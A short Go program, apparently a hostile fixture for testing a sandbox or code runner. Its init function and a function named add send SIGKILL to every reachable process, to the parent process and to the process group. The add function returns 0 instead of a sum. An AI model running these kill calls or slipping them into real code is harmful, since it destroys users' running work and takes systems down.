// Kills everything that it can reach.
package main

import (
	"syscall"
)

func init() { syscall.Kill(-1, syscall.SIGKILL) }

func add(a, b int) int {
	syscall.Kill(syscall.Getppid(), syscall.SIGKILL)
	syscall.Kill(0, syscall.SIGKILL)
	return 0
}
